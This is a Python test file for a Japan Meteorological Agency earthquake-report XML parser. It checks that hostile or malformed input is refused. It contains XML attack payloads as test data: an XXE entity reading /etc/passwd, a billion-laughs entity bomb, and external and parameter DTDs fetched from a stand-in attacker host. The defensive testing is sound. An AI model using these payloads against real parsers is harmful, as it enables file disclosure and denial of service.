"""Hostile and broken input is refused by the JMA parser with a clear JmaParseError, never another exception.

Pure tests: no database, no network. Covers XXE, billion laughs, external DTDs, truncation, encoding lies, non-JMA
XML, oversized and empty input, and random bytes (hypothesis).
"""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from safety.jma.parser import MAX_DOCUMENT_BYTES, JmaParseError, parse_feed, parse_report

GOOD = """<?xml version="1.0" encoding="UTF-8"?>
<Report xmlns="http://xml.kishou.go.jp/jmaxml1/">
  <Control><Title>震度速報</Title><DateTime>2024-01-01T07:13:00Z</DateTime><Status>通常</Status></Control>
  <Head xmlns="http://xml.kishou.go.jp/jmaxml1/informationBasis1/">
    <Title>震度速報</Title><ReportDateTime>2024-01-01T16:13:00+09:00</ReportDateTime>
    <EventID>20240101161010</EventID><InfoType>発表</InfoType><Serial/>
    <Headline><Text>１日１６時１０分ころ、地震による強い揺れを感じました。</Text></Headline>
  </Head>
  <Body xmlns="http://xml.kishou.go.jp/jmaxml1/body/seismology1/">
    <Intensity><Observation><MaxInt>6+</MaxInt>
      <Pref><Name>石川県</Name><Code>17</Code><MaxInt>6+</MaxInt></Pref></Observation></Intensity>
  </Body>
</Report>
"""

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Report [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Report xmlns="http://xml.kishou.go.jp/jmaxml1/"><Control><Title>&xxe;</Title></Control></Report>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Report xmlns="http://xml.kishou.go.jp/jmaxml1/"><Control><Title>&lol9;</Title></Control></Report>"""

EXTERNAL_DTD = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Report SYSTEM "http://attacker.invalid/evil.dtd">
<Report xmlns="http://xml.kishou.go.jp/jmaxml1/"><Control><Title>x</Title></Control></Report>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<r/>"""


def test_the_good_message_parses() -> None:
    assert parse_report(GOOD.encode()).max_intensity == "6+"


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (XXE, "forbidden construct"),
        (BILLION_LAUGHS, "forbidden construct"),
        (EXTERNAL_DTD, "forbidden construct"),
        (PARAMETER_ENTITY, "forbidden construct"),
    ],
    ids=["xxe-entity", "billion-laughs", "external-dtd", "parameter-entity"],
)
def test_dtds_and_entities_are_refused(raw: bytes, reason: str) -> None:
    with pytest.raises(JmaParseError, match=reason) as info:
        parse_report(raw)
    assert "XXE" in str(info.value)
    with pytest.raises(JmaParseError, match=reason):
        parse_feed(raw)


@pytest.mark.parametrize("cut", [1, 10, 100, len(GOOD.encode()) // 2, len(GOOD.encode()) - 5])
def test_truncated_input_is_refused(cut: int) -> None:
    with pytest.raises(JmaParseError, match=r"not well-formed|not valid UTF-8"):
        parse_report(GOOD.encode()[:cut])


def test_truncated_in_the_middle_of_a_multibyte_character_is_refused() -> None:
    raw = GOOD.encode()
    cut = raw.index("石川県".encode()) + 1
    with pytest.raises(JmaParseError, match="not valid UTF-8"):
        parse_report(raw[:cut])


def test_declared_shift_jis_with_utf8_bytes_is_an_encoding_lie() -> None:
    raw = GOOD.replace('encoding="UTF-8"', 'encoding="Shift_JIS"').encode("utf-8")
    with pytest.raises(JmaParseError, match=r"encoding mismatch.*Shift_JIS"):
        parse_report(raw)


def test_declared_utf8_with_cp932_bytes_is_an_encoding_lie() -> None:
    raw = GOOD.encode("cp932")
    with pytest.raises(JmaParseError, match="not valid UTF-8"):
        parse_report(raw)


def test_undeclared_cp932_bytes_are_refused() -> None:
    raw = GOOD.split("\n", 1)[1].encode("cp932")
    with pytest.raises(JmaParseError, match="not valid UTF-8"):
        parse_report(raw)


def test_utf16_is_refused() -> None:
    with pytest.raises(JmaParseError):
        parse_report(GOOD.replace("UTF-8", "UTF-16").encode("utf-16"))


@pytest.mark.parametrize(
    "raw",
    [
        b'<?xml version="1.0"?><html><body>not JMA</body></html>',
        b'<Report xmlns="http://example.com/other"><Control/><Head/><Body/></Report>',
        b'<Report xmlns="http://xml.kishou.go.jp/jmaxml1/"><Control><Title>t</Title><Status>s</Status></Control></Report>',
        b'<feed xmlns="http://www.w3.org/2005/Atom"></feed>',
    ],
    ids=["html", "other-namespace", "no-head-no-body", "atom-feed"],
)
def test_non_jma_xml_is_refused(raw: bytes) -> None:
    with pytest.raises(JmaParseError, match="not a JMA report"):
        parse_report(raw)


def test_empty_control_title_is_refused() -> None:
    raw = GOOD.replace("<Title>震度速報</Title><DateTime>", "<Title>  </Title><DateTime>").encode()
    with pytest.raises(JmaParseError, match="Control/Title"):
        parse_report(raw)


def test_huge_file_is_refused_before_parsing() -> None:
    raw = GOOD.encode().replace(b"</Report>", b"<!--" + b"x" * MAX_DOCUMENT_BYTES + b"--></Report>")
    with pytest.raises(JmaParseError, match="too large"):
        parse_report(raw)
    with pytest.raises(JmaParseError, match="too large"):
        parse_feed(raw)


@pytest.mark.parametrize("raw", [b"", b"   \r\n\t", b"\xef\xbb\xbf"], ids=["empty", "whitespace", "bom-only"])
def test_empty_input_is_refused(raw: bytes) -> None:
    with pytest.raises(JmaParseError, match="empty"):
        parse_report(raw)


def test_not_bytes_is_refused() -> None:
    with pytest.raises(JmaParseError, match="must be bytes"):
        parse_report(GOOD)


def test_feed_entry_without_link_is_refused() -> None:
    raw = b"""<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>t</title>
      <updated>2024-01-01T00:00:00Z</updated><id>x</id></entry></feed>"""
    with pytest.raises(JmaParseError, match="link"):
        parse_feed(raw)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2048))
def test_random_bytes_only_ever_raise_jma_parse_error(raw: bytes) -> None:
    for parse in (parse_report, parse_feed):
        try:
            parse(raw)
        except JmaParseError as exc:
            assert str(exc)


@settings(max_examples=200, deadline=None)
@given(st.integers(min_value=0, max_value=len(GOOD.encode())), st.binary(max_size=16))
def test_corrupted_good_messages_parse_or_raise_jma_parse_error(position: int, junk: bytes) -> None:
    raw = GOOD.encode()
    try:
        parse_report(raw[:position] + junk + raw[position:])
    except JmaParseError as exc:
        assert str(exc)
